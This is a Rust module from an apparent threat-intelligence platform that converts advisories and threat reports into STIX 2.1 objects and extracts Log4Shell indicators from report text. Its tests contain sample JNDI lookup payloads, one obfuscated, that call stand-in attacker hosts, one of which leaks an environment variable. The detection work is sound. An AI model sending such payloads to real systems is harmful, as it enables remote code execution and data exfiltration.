//! Published advisories and threat reports as STIX 2.1 objects, each under its TLP 2.0 marking.
//!
//! An advisory becomes a `vulnerability` (named by its CVE when it has one) and a `report` of
//! type `vulnerability`, created by the platform's `identity`. A threat report becomes a
//! `report` of type `threat-report` created by the reporting organization's `identity`, with a
//! `vulnerability` per CVE alias and an `indicator` per exploit source address, callback host
//! and lookup payload found in its text. Ids are derived from the record's id, so every export
//! of a record names the same objects, and `modified` follows the record's last change.

use std::collections::BTreeSet;
use std::net::IpAddr;

use serde_json::{Value, json};
use vulnshare_core::advisory::{Advisory, AdvisoryState};
use vulnshare_core::organization::Organization;
use vulnshare_core::report::Report;
use vulnshare_core::tlp::Tlp;

use super::{derived_id, indicator_host, pattern_literal, stix_time, tlp_marking, tlp_marking_id};

/// Most indicators of each kind taken from one report's text.
pub const MAX_INDICATORS: usize = 100;

/// The platform's own identity, which signs advisories.
pub fn platform_identity() -> Value {
    json!({
        "type": "identity", "spec_version": "2.1", "id": derived_id("identity", "platform"),
        "created": "2021-01-01T00:00:00.000Z", "modified": "2021-01-01T00:00:00.000Z",
        "name": "vulnshare platform", "identity_class": "organization",
    })
}

/// An organization as a STIX identity.
pub fn organization_identity(org: &Organization) -> Value {
    let created = stix_time(org.created_at);
    json!({
        "type": "identity", "spec_version": "2.1", "id": derived_id("identity", &format!("organization:{}", org.id)),
        "created": created, "modified": created,
        "name": org.name, "identity_class": "organization",
    })
}

/// Adds the common properties of a domain object made by `creator` under `tlp`.
fn domain_object(
    kind: &str,
    id: String,
    created: &str,
    modified: &str,
    creator: &Value,
    tlp: Tlp,
    body: Value,
) -> Value {
    let mut object = body;
    let map = object.as_object_mut().expect("bodies are objects");
    map.insert("type".into(), kind.into());
    map.insert("spec_version".into(), "2.1".into());
    map.insert("id".into(), id.into());
    map.insert("created".into(), created.into());
    map.insert("modified".into(), modified.into());
    map.insert("created_by_ref".into(), creator["id"].clone());
    map.insert("object_marking_refs".into(), json!([tlp_marking_id(tlp)]));
    object
}

fn external_references(record_id: &str, aliases: &[String]) -> Vec<Value> {
    let mut refs: Vec<Value> = aliases
        .iter()
        .filter(|a| a.starts_with("CVE-"))
        .map(|cve| json!({"source_name": "cve", "external_id": cve}))
        .collect();
    refs.push(json!({"source_name": "vulnshare", "external_id": record_id}));
    refs
}

/// The STIX objects of a published (or withdrawn: then `revoked`) advisory.
pub fn advisory_objects(advisory: &Advisory) -> Vec<Value> {
    let identity = platform_identity();
    let created = stix_time(advisory.published_at);
    let modified = stix_time(advisory.updated_at.max(advisory.published_at));
    let source = format!("advisory:{}", advisory.id);
    let name = advisory
        .aliases
        .iter()
        .find(|a| a.starts_with("CVE-"))
        .unwrap_or(&advisory.id);
    let mut description = advisory.summary.clone();
    if !advisory.details.is_empty() {
        description.push_str("\n\n");
        description.push_str(&advisory.details);
    }
    let revoked = advisory.state == AdvisoryState::Withdrawn;
    let mut refs = external_references(&advisory.id, &advisory.aliases);
    refs.extend(
        advisory
            .cwes
            .iter()
            .map(|c| json!({"source_name": "cwe", "external_id": c.to_string()})),
    );
    let vulnerability = domain_object(
        "vulnerability",
        derived_id("vulnerability", &source),
        &created,
        &modified,
        &identity,
        advisory.tlp,
        json!({"name": name, "description": description, "external_references": refs, "revoked": revoked}),
    );
    let mut report_body = json!({
        "name": format!("{}: {}", advisory.id, advisory.summary),
        "report_types": ["vulnerability"],
        "published": created,
        "object_refs": [vulnerability["id"]],
        "external_references": external_references(&advisory.id, &[]),
        "revoked": revoked,
    });
    if !advisory.remediation.is_empty() {
        report_body["description"] = format!("Remediation: {}", advisory.remediation).into();
    }
    let report = domain_object(
        "report",
        derived_id("report", &source),
        &created,
        &modified,
        &identity,
        advisory.tlp,
        report_body,
    );
    vec![tlp_marking(advisory.tlp), identity, vulnerability, report]
}

/// What a threat report's text names: exploit source addresses, callback hosts (as
/// `(observable type, value)`) and lookup payloads.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ThreatIndicators {
    /// Addresses the exploitation attempts came from.
    pub sources: BTreeSet<IpAddr>,
    /// Hosts the payloads make the victim call back to.
    pub callbacks: BTreeSet<(&'static str, String)>,
    /// The `${...}` lookup payloads themselves.
    pub payloads: BTreeSet<String>,
}

/// The end (exclusive) of the `${...}` starting at `start`, braces nested.
fn lookup_end(text: &str, start: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (i, c) in text[start..].char_indices() {
        match c {
            '{' => depth += 1,
            '}' => {
                depth = depth.checked_sub(1)?;
                if depth == 0 {
                    return Some(start + i + 1);
                }
            }
            _ => {}
        }
    }
    None
}

/// The host of the first `scheme://host` in a payload; lookups inside the host stay whole.
fn callback_host(payload: &str) -> Option<&str> {
    let at = payload.find("://")? + 3;
    let rest = &payload[at..];
    let mut depth = 0usize;
    let mut end = rest.len();
    for (i, c) in rest.char_indices() {
        match c {
            '{' => depth += 1,
            '}' if depth == 0 => {
                end = i;
                break;
            }
            '}' => depth -= 1,
            '/' | ':' | '?' if depth == 0 => {
                end = i;
                break;
            }
            c if c.is_whitespace() || c == '"' || c == '\'' => {
                end = i;
                break;
            }
            _ => {}
        }
    }
    Some(&rest[..end]).filter(|h| !h.is_empty())
}

/// Finds indicators in free text: `${...}` lookups mentioning `jndi` (also obfuscated with
/// nested lookups) are payloads and name callback hosts; IP addresses elsewhere are sources.
pub fn find_indicators(text: &str) -> ThreatIndicators {
    let mut found = ThreatIndicators::default();
    let mut rest_of_text = String::with_capacity(text.len());
    let mut cursor = 0;
    while let Some(offset) = text[cursor..].find("${") {
        let start = cursor + offset;
        rest_of_text.push_str(&text[cursor..start]);
        let Some(end) = lookup_end(text, start) else {
            cursor = start + 2;
            continue;
        };
        let payload = &text[start..end];
        let lower = payload.to_ascii_lowercase();
        let obfuscated = payload[2..].contains("${");
        if (lower.contains("jndi") || obfuscated) && found.payloads.len() < MAX_INDICATORS {
            found.payloads.insert(payload.to_owned());
            if let Some(host) = callback_host(payload).and_then(indicator_host)
                && found.callbacks.len() < MAX_INDICATORS
            {
                found.callbacks.insert(host);
            }
        }
        rest_of_text.push(' ');
        cursor = end;
    }
    rest_of_text.push_str(&text[cursor..]);
    for token in rest_of_text.split(|c: char| !(c.is_ascii_hexdigit() || c == '.' || c == ':')) {
        let token = token.trim_matches(|c| c == '.' || c == ':');
        let plausible = token.matches('.').count() == 3 || token.matches(':').count() >= 2;
        if let Ok(ip) = token.parse::<IpAddr>()
            && plausible
            && !ip.is_loopback()
            && !ip.is_unspecified()
            && found.sources.len() < MAX_INDICATORS
        {
            found.sources.insert(ip);
        }
    }
    found
}

/// A PCRE matching `text` literally.
fn pcre_literal(text: &str) -> String {
    let mut out = String::with_capacity(text.len() * 2);
    for c in text.chars() {
        if r"\.^$|?*+()[]{}/".contains(c) {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

/// The STIX objects of a submitted threat report filed by `reporter`.
pub fn threat_report_objects(report: &Report, reporter: &Organization) -> Vec<Value> {
    let identity = organization_identity(reporter);
    let tlp = report.content.tlp;
    let received = report.received_at.unwrap_or(report.created_at);
    let created = stix_time(received);
    let modified = stix_time(report.updated_at.max(received));
    let source = format!("report:{}", report.id);
    let object = |kind: &str, key: &str, body: Value| {
        domain_object(
            kind,
            derived_id(kind, &format!("{source}:{key}")),
            &created,
            &modified,
            &identity,
            tlp,
            body,
        )
    };
    let indicator = |key: &str,
                     name: String,
                     description: &str,
                     pattern: String,
                     pattern_type: &str| {
        let mut body = json!({
            "name": name, "description": format!("{description} (vulnshare threat report {}).", report.id),
            "indicator_types": ["malicious-activity"], "pattern": pattern,
            "pattern_type": pattern_type, "valid_from": created,
        });
        if pattern_type == "stix" {
            body["pattern_version"] = "2.1".into();
        }
        object("indicator", key, body)
    };
    let content = &report.content;
    let text = [
        content.title.as_str(),
        &content.technical_characteristics,
        &content.harm,
        &content.scope_of_impact,
    ]
    .join("\n");
    let found = find_indicators(&text);
    let mut objects = vec![tlp_marking(tlp), identity.clone()];
    let mut refs = Vec::new();
    for cve in content.aliases.iter().filter(|a| a.starts_with("CVE-")) {
        let v = object(
            "vulnerability",
            cve,
            json!({"name": cve, "external_references": [{"source_name": "cve", "external_id": cve}]}),
        );
        refs.push(v["id"].clone());
        objects.push(v);
    }
    for ip in &found.sources {
        let kind = if ip.is_ipv4() {
            "ipv4-addr"
        } else {
            "ipv6-addr"
        };
        objects.push(indicator(
            &format!("source:{ip}"),
            format!("Exploit source {ip}"),
            "An address the reported exploitation attempts came from",
            format!("[{kind}:value = {}]", pattern_literal(&ip.to_string())),
            "stix",
        ));
    }
    for (kind, value) in &found.callbacks {
        objects.push(indicator(
            &format!("callback:{value}"),
            format!("Callback host {value}"),
            "A host the exploit payloads make the victim contact",
            format!("[{kind}:value = {}]", pattern_literal(value)),
            "stix",
        ));
    }
    for payload in &found.payloads {
        objects.push(indicator(
            &format!("payload:{payload}"),
            format!("Exploit payload {payload}"),
            "A lookup string sent in the reported exploitation attempts",
            pcre_literal(payload),
            "pcre",
        ));
    }
    refs.extend(
        objects
            .iter()
            .filter(|o| o["type"] == "indicator")
            .map(|o| o["id"].clone()),
    );
    if refs.is_empty() {
        refs.push(identity["id"].clone());
    }
    let mut description = content.technical_characteristics.clone();
    for part in [&content.harm, &content.scope_of_impact] {
        if !part.is_empty() {
            description.push_str("\n\n");
            description.push_str(part);
        }
    }
    let mut body = json!({
        "name": content.title,
        "report_types": ["threat-report"],
        "published": created,
        "object_refs": refs,
        "external_references": external_references(&report.id, &[]),
    });
    if !description.is_empty() {
        body["description"] = description.into();
    }
    objects.push(object("report", "report", body));
    objects
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::stix::check_object;
    use jiff::Timestamp;

    #[test]
    fn indicators_come_from_payloads_and_addresses() {
        let found = find_indicators(
            "Attempts from 203.0.113.7 and 2001:db8::7 sent ${jndi:ldap://evil.example:1389/a} and \
             ${${::-j}ndi:rmi://${env:USER}.x.attacker.example/x} in User-Agent; log4j 2.14.1 and ${date:now}.",
        );
        let sources: Vec<String> = found.sources.iter().map(IpAddr::to_string).collect();
        assert_eq!(sources, ["203.0.113.7", "2001:db8::7"]);
        let callbacks: Vec<&str> = found.callbacks.iter().map(|(_, v)| v.as_str()).collect();
        assert_eq!(callbacks, ["evil.example", "x.attacker.example"]);
        assert_eq!(found.payloads.len(), 2, "{:?}", found.payloads);
    }

    #[test]
    fn payload_patterns_match_literally() {
        assert_eq!(
            pcre_literal("${jndi:ldap://a.b/c}"),
            r"\$\{jndi:ldap:\/\/a\.b\/c\}"
        );
    }

    #[test]
    fn every_exported_object_passes_the_check() {
        let t: Timestamp = "2021-12-10T08:00:00Z".parse().unwrap();
        let org = Organization {
            id: "org-1".into(),
            name: "Example SOC".into(),
            kind: vulnshare_core::organization::OrganizationKind::MonitoringInstitution,
            country: "CN".into(),
            membership: vulnshare_core::organization::Membership::Active,
            created_at: t,
        };
        let report: Report = serde_json::from_value(json!({
            "id": "VS-2021-00002", "reporter_org_id": "org-1", "created_by": "u", "state": "submitted",
            "received_at": "2021-12-10T08:00:00Z", "created_at": "2021-12-10T08:00:00Z", "updated_at": "2021-12-10T08:00:00Z",
            "kind": "threat", "title": "Log4Shell scanning", "tlp": "GREEN", "aliases": ["CVE-2021-44228"],
            "technical_characteristics": "203.0.113.7 sent ${jndi:ldap://evil.example/a}",
        }))
        .unwrap();
        let objects = threat_report_objects(&report, &org);
        let kinds: Vec<&str> = objects
            .iter()
            .map(|o| o["type"].as_str().unwrap())
            .collect();
        assert_eq!(
            kinds,
            [
                "marking-definition",
                "identity",
                "vulnerability",
                "indicator",
                "indicator",
                "indicator",
                "report"
            ]
        );
        assert_eq!(
            objects,
            threat_report_objects(&report, &org),
            "ids are stable"
        );
        for o in &objects {
            let checked = check_object(o).unwrap_or_else(|e| panic!("{e}: {o}"));
            if o["type"] != "marking-definition" && o["type"] != "identity" {
                assert_eq!(checked.tlp, Some(Tlp::Green), "{o}");
            }
        }
        assert_eq!(objects[6]["object_refs"].as_array().unwrap().len(), 4);
    }
}
